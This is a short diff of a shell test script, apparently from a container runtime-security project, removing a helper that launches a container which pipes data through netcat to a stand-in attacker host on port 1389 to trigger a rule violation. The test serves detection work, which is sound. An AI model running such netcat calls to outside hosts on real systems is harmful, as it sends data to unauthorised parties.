@@ -31,12 +31,6 @@ respond_by() {
   service_start
 }
 
-# violates ID: a container that violates the rule once and goes on.
-violates() {
-  contained_detached "$1" sh -c \
-    "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
-}
-
 # state_is ID STATE
 state_is() {
   [[ $(api GET "/v1/containers/$1" | jq -r .state) == "$2" ]]
